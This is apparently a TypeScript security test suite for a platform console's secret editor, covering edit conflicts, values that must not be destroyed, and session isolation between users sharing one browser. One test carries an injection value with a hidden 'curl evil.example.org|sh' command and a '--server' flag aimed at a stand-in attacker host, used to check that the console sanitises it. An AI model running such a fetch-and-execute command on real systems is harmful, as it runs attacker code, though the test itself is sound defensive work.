// Security review 11: values that an edit must not destroy, lost changes of others, and several users of one browser.

import assert from 'node:assert/strict'
import { after, before, suite, test } from 'node:test'
import type { BrowserContext, Page } from 'playwright-core'
import { whyCommand } from '../../src/console/data/commands.ts'
import { conflicts } from '../../src/console/editor/difference.ts'
import { notRun } from '../support/missing-tool.ts'
import { type ConsoleStage, found, openConsoleStage, ours } from './stage.ts'

test('a change of others to the same label is a conflict, also if its name has dots', () => {
  const labelled = (value: string) => ({ metadata: { labels: { 'app.example.org/tier': value } } })
  assert.equal(conflicts(labelled('base'), labelled('mine'), labelled('theirs')).length, 1)
})

test('a link cannot add a flag or a control character to the command of the page', () => {
  const flag = whyCommand({ verb: 'get', resource: 'teams', name: '--server=https://evil.example.org' })
  assert.match(flag, /^platform why -- get teams --server/)
  const typed = whyCommand({ verb: 'get', resource: 'teams', name: 'a\u0015curl evil.example.org|sh\n' })
  assert.doesNotMatch(typed, /[\u0000-\u001f\u007f]/)
})

const merge = { 'content-type': 'application/merge-patch+json' }
const secrets = `${ours}/namespaces/default/sharedsecrets`

if (!found) notRun('Chromium')
else
  suite('console: edits and users', () => {
    let stage: ConsoleStage
    let eve: string
    before(async () => {
      stage = await openConsoleStage()
      eve = (await stage.ask('POST', `${ours}/ownedaccesskeys`, { metadata: { name: 'eve' }, spec: { user: 'eve' } }))
        .spec.key
    })
    after(() => stage.close())

    const dataOf = async (name: string) => (await stage.ask('GET', `${secrets}/${name}`)).spec.data

    test('a value that is not text is not edited as text', async () => {
      const data = { cert: '//4A' }
      await stage.ask('POST', secrets, { metadata: { name: 'binary' }, spec: { data } })
      const page = await stage.signedIn({ path: 'ns/default/secrets/binary' })
      await page.getByRole('button', { name: 'Edit cert' }).click()
      await page.getByRole('alert').filter({ hasText: 'This value is not text.' }).waitFor()
      assert.equal(await page.getByRole('button', { name: 'Save changes', exact: true }).count(), 0)
      assert.deepEqual(await dataOf('binary'), data)
    })

    test('an edit does not begin with an empty value if the value could not be read', async () => {
      await stage.ask('POST', secrets, { metadata: { name: 'unread' }, spec: { stringData: { password: 'kept' } } })
      const page = await stage.signedIn({ path: 'ns/default/secrets/unread' })
      await page.getByRole('button', { name: 'Edit password' }).waitFor()
      await page.route('**/sharedsecrets/unread', route => route.abort())
      await page.getByRole('button', { name: 'Edit password' }).click()
      await page
        .getByRole('alert')
        .or(page.getByRole('button', { name: 'Save changes', exact: true }))
        .first()
        .waitFor()
      assert.equal(await page.getByLabel('New value of password').count(), 0)
    })

    test('a change that is no longer in the history is not overwritten without asking', async () => {
      const patch = (data: object) => stage.ask('PATCH', `${secrets}/forgotten`, { spec: { stringData: data } }, merge)
      await stage.ask('POST', secrets, { metadata: { name: 'forgotten' }, spec: { stringData: { password: 'old' } } })
      const page = await stage.signedIn({ path: 'ns/default/secrets/forgotten' })
      await page.getByRole('button', { name: 'Edit password' }).click()
      await page.getByLabel('New value of password').fill('mine')
      await patch({ password: 'theirs' })
      for (let round = 0; round < 22; round++) await patch({ other: String(round) })
      const numbers = async (): Promise<number[]> => {
        const { status } = await stage.ask('GET', `${secrets}/forgotten/history`)
        return status.versions.map((one: { number: number }) => one.number)
      }
      while ((await numbers()).includes(2));
      await page.getByRole('button', { name: 'Save changes', exact: true }).click()
      const dialog = page.getByRole('dialog', { name: 'Somebody else may have changed the same keys' })
      await dialog.getByText('password').waitFor()
      assert.equal((await dataOf('forgotten')).password, btoa('theirs'))
      await dialog.getByLabel('Use mine').click()
      await dialog.getByRole('button', { name: 'Save changes' }).click()
      await page.getByText('1 key changed').waitFor({ state: 'detached' })
      const { password, other } = await dataOf('forgotten')
      assert.deepEqual([password, other], [btoa('mine'), btoa('21')])
    })

    const signInBeside = async (context: BrowserContext, key: string): Promise<Page> => {
      const page = await context.newPage()
      await page.goto(new URL('../auth/login', stage.url).href)
      await page.getByLabel('Access key').fill(key)
      await page.getByRole('button', { name: 'Sign in with an access key' }).click()
      await page.locator('main#content').waitFor()
      return page
    }

    test('a tab of a user does nothing as another user who signed in to the same browser later', async () => {
      const context = await stage.context()
      const first = await stage.signedIn({ key: eve, path: 'teams', context })
      await signInBeside(context, stage.server.adminKey)
      await first.getByRole('navigation').getByText('admin', { exact: true }).waitFor()
      const statusAs = (user: string) =>
        first.evaluate<number>(`fetch('../kubernetes/management${ours}/teams', { headers: { 'Platform-User': '${user}' } })
          .then(({ status }) => status)`)
      assert.deepEqual([await statusAs('admin'), await statusAs('eve')], [200, 401])
      await context.close()
    })

    test('a user sees no rows of another user who uses another tab of the browser', async () => {
      const context = await stage.context()
      const admin = await stage.signedIn({ path: 'teams', context })
      await admin.getByText(/^live/).waitFor()
      const other = await signInBeside(context, eve)
      await other.goto(`${stage.url}teams`)
      await other.getByRole('heading', { name: 'Teams', exact: true }).waitFor()
      await other.getByRole('navigation').getByText('eve', { exact: true }).waitFor()
      await stage.ask('POST', `${ours}/teams`, { metadata: { name: 'merger-plans' } })
      await stage.ask('POST', `${ours}/teams`, { metadata: { name: 'of-eve' }, spec: { users: ['eve'] } })
      await other.getByRole('link', { name: 'of-eve', exact: true }).waitFor()
      assert.equal(await other.getByText('merger-plans').count(), 0)
      await context.close()
    })

    test('sign-out on the page of the session deletes drafts, too', async () => {
      await stage.ask('POST', secrets, { metadata: { name: 'drafted' }, spec: { stringData: { password: 'old' } } })
      const context = await stage.context()
      const page = await stage.signedIn({ path: 'ns/default/secrets/drafted', context })
      await page.getByRole('button', { name: 'Edit password' }).click()
      await page.getByLabel('New value of password').fill('draft of the administrator')
      await page.getByText('1 key changed').waitFor()
      await page.goto(new URL('../auth/session', stage.url).href)
      await page.getByRole('button', { name: 'Sign out', exact: true }).click()
      await page.getByLabel('Access key').waitFor()
      await page.goto(stage.url)
      await page.getByLabel('Access key').waitFor()
      const drafts = await page.evaluate(`new Promise((resolve, reject) => {
        const opening = indexedDB.open('platform-console')
        opening.onsuccess = () => {
          const db = opening.result
          if (!db.objectStoreNames.contains('drafts')) return resolve([])
          const keys = db.transaction('drafts').objectStore('drafts').getAllKeys()
          keys.onsuccess = () => resolve(keys.result)
        }
        opening.onerror = reject
      })`)
      assert.deepEqual(drafts, [])
    })
  })
